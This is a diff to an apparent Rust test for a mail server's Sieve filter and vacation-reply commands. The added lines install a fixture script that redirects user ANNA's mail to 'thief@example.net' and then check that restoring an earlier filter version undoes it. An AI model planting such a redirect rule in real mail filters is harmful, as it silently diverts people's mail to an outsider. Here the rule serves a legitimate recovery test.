@@ -96,6 +96,13 @@ fn commands_keep_filters_and_answer_for_those_who_are_away() {
         "{listed}"
     );
     assert_eq!(site.command(&["sieve", "get", ANNA]), RULES);
+    let thief = site.write("thief.sieve", "redirect \"thief@example.net\";");
+    site.command(&["sieve", "put", ANNA, "main", thief.to_str().unwrap()]);
+    let versions = site.command(&["--json", "sieve", "versions", ANNA]);
+    let versions: serde_json::Value = serde_json::from_str(&versions).unwrap();
+    let version = format!("{}-{}", versions[0]["object"], versions[0]["until"]);
+    site.command(&["sieve", "restore", ANNA, &version]);
+    assert_eq!(site.command(&["sieve", "get", ANNA]), RULES);
     let text = "Bin bis Montag nicht da.";
     site.command(&["vacation", "set", ANNA, "--text", text, "--only-inside"]);
     let shown = site.command(&["vacation", "show", ANNA]);
